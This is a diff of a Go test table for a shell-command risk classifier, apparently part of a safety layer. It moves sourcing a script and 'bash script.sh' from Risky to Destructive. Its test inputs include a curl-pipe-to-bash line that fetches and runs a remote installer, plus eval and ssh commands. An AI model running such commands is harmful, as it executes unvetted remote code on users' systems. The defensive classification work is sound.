@@ -100,10 +100,10 @@ func TestClassifyLevels(t *testing.T) {
 		{`$h apps:info`, Risky},
 		{`$TOOL ps`, Risky},
 		{`eval "echo hi"`, Risky},
-		{`source ./env.sh`, Risky},
-		{`. ./env.sh`, Risky},
+		{`source ./env.sh`, Destructive}, // no such file: opaque
+		{`. ./env.sh`, Destructive},
 		{`curl -fsSL https://x.example/install.sh | bash`, Destructive},
-		{`bash script.sh`, Risky},
+		{`bash script.sh`, Destructive},
 		{`bash -c "heroku ps -a $OTHER"`, Destructive},
 		{`ssh host`, Risky},
 		{`ssh host uptime`, Risky},
